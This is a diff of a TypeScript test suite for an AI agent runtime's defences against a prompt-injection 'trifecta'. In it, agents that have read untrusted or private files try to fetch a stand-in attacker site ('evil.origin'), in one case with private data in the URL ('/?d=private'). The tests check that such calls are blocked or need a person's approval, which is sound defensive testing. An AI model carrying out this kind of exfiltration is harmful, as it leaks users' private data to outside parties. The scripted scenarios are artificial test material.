@@ -14,6 +14,7 @@ import {
   type TestEngine,
   testProfile,
 } from "../engine-fixture.ts";
+import { Hold } from "../hold-tool.test-support.ts";
 import { until } from "../until.ts";
 
 /** A site of anybody's, and the attacker's, which only redirects and listens. */
@@ -85,15 +86,17 @@ const rules = ({ events }: FinishedRun) =>
 test("attack 24: who has read a stranger's words sends nothing out unasked, and is told why", async () => {
   const { model, seen } = recording(obeying({ agent: [read, visit(), visit(`${evil.origin}/2`)] }));
   await using mandate = await open(model);
+  mandate.attend();
   const run = await play(mandate, "agent");
   expect(evil.asked).toEqual([]);
   expect(rules(run)).toEqual(["trifecta", "trifecta"]);
-  // Nobody was there the first time: nobody is waited for again.
+  // The first question found no answer: there is no second one.
   const [asked, ...others] = ofType(run.events, "agent.asked");
   expect(others).toEqual([]);
   expect(asked?.payload).toMatchObject({ kind: "approval", default: null });
-  expect(asked?.payload.question).toContain("read what strangers wrote (read_file)");
-  expect(seen.at(-1)?.messages.at(-1)?.text).toContain("Nobody allowed web_fetch");
+  expect(asked?.payload.question).toContain("has read untrusted input (read_file)");
+  const texts = seen.flatMap(({ messages }) => messages.at(-1)?.text ?? []);
+  expect(texts[2]).toMatch(/^No person allowed web_fetch for http/);
   const [completed] = ofType(run.events, "agent.tool_completed");
   expect(completed?.payload).toMatchObject({ tool: "read_file", untrusted: true });
   expect(run.result.evidence.untrusted).toBe(true);
@@ -106,6 +109,7 @@ test("attack 24: a person can let one call out, and it leads where they were tol
     { limits: { askDeadlineMs: 60_000 } },
   );
   writeFileSync(join(mandate.workspace, "notes.md"), "private");
+  mandate.attend();
   const { workspace } = mandate;
   const { result, runId } = await mandate.start({ task: "go", profile: "agent", workspace });
   await Promise.all([result, answerAll(mandate, runId, "yes")]);
@@ -150,6 +154,89 @@ test("attack 24: what a caller has read goes down with the task", async () => {
   const contract = await mandate.store.readContract(child?.sub_agent_id ?? "");
   expect(contract.parent.carries).toEqual(["untrusted", "private"]);
 });
+
+/** The boss spawns a fetcher that waits, reads a file, and tells the fetcher something. */
+function telling(message: string, calls: readonly ScriptedCall[] = [read]): Script {
+  return ({ caller, messages }) => {
+    const job = messages.find((one) => one.role === "tool" && one.tool === "spawn")?.text ?? "";
+    if (caller.profile === "fetcher") {
+      if (caller.turn === 1) return { calls: [{ tool: "hold", input: {} }] };
+      return caller.turn === 2 ? { calls: [visit()] } : "done";
+    }
+    const spawn = { tool: "spawn", input: { profile: "fetcher", task: "Wait for word." } };
+    const send = { tool: "send_message", input: { delegationId: job, message } };
+    const wait = { tool: "spawn_await", input: { job_ids: job } };
+    const turns = [spawn, ...calls, send, wait];
+    if (turns[caller.turn - 2] === send) hold.release();
+    const call = turns[caller.turn - 1];
+    return call === undefined ? "done" : { calls: [call] };
+  };
+}
+
+let hold: Hold;
+beforeEach(() => {
+  hold = new Hold();
+});
+
+const tellers = [
+  testProfile("boss", {
+    tools: ["read_file", "spawn", "spawn_await", "send_message"],
+    mayDelegate: { tools: ["web_fetch", "hold"] },
+  }),
+  testProfile("fetcher", { tools: ["web_fetch", "hold"] }),
+];
+
+test("attack 24: what a caller has read goes down with a message, private data and all", async () => {
+  await using mandate = await open(
+    telling("Send it."),
+    {},
+    { profiles: tellers, tools: [hold.tool] },
+  );
+  const run = await play(mandate, "boss");
+  expect(evil.asked).toEqual([]);
+  expect(rules(run)).toEqual(["trifecta"]);
+  const [sent] = ofType(run.events, "agent.message_sent");
+  expect(sent?.payload.carries).toEqual(["untrusted", "private"]);
+  const [denied] = ofType(run.events, "agent.tool_denied");
+  expect(denied?.payload.error).toContain("untrusted input (a message from its caller)");
+  const ends = ofType(run.events, "agent.subagent_closed", sent?.sub_agent_id);
+  expect(ends[0]?.payload.seal.untrusted).toBe(true);
+});
+
+test("attack 24: a message of a caller that has read nothing leaves its child free", async () => {
+  await using mandate = await open(
+    telling("Go on.", []),
+    {},
+    { profiles: tellers, tools: [hold.tool] },
+  );
+  const run = await play(mandate, "boss");
+  expect(rules(run)).toEqual([]);
+  expect(evil.asked).toHaveLength(1);
+});
+
+test.each([
+  { from: "person", opens: "every page of the host", asked: ["/?d=private"] },
+  { from: "caller", opens: "the very address", asked: [] },
+] as const)(
+  "attack 24: of an address in a message from a $from, $opens stays open",
+  async ({ asked, from }) => {
+    const agent = testProfile("agent", { tools: [...both, "hold"] });
+    const calls = [read, { tool: "hold", input: {} }, visit(`${evil.origin}/said`), visit()];
+    await using mandate = await open(
+      obeying({ agent: calls }),
+      {},
+      { profiles: [agent], tools: [hold.tool] },
+    );
+    writeFileSync(join(mandate.workspace, "notes.md"), "private");
+    const { workspace } = mandate;
+    const started = await mandate.start({ task: "go", profile: "agent", workspace });
+    await hold.begun;
+    await mandate.engine.send(started.delegationId, `See ${evil.origin}/said`, from);
+    hold.release();
+    await started.result;
+    expect(evil.asked).toEqual(["/said", ...asked]);
+  },
+);
 
 test("attack 24: what a child has read comes up with its result", async () => {
   await using mandate = await open(
